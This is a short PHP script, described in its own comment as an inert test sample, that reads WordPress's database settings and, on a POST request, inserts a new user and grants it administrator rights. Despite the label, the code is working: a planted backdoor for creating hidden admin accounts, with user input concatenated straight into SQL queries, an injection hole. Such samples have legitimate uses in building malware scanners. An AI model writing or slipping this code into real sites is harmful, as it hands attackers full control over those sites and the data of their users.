<?php
// inert test sample: a stand-alone script that writes an administrator straight into the users tables
include dirname(__FILE__) . '/wp-config.php';
$link = new mysqli(DB_HOST, DB_USER, DB_PASSWORD, DB_NAME);
if (!empty($_POST['login'])) {
    $link->query("INSERT INTO {$table_prefix}users (user_login, user_pass, user_email, user_registered, display_name) VALUES ('" . $_POST['login'] . "', MD5('" . $_POST['secret'] . "'), 'nobody@example.invalid', NOW(), 'helper')");
    $id = $link->insert_id;
    $link->query("INSERT INTO {$table_prefix}usermeta (user_id, meta_key, meta_value) VALUES ($id, '{$table_prefix}capabilities', 'a:1:{s:13:\"administrator\";b:1;}')");
    echo 'ok';
}
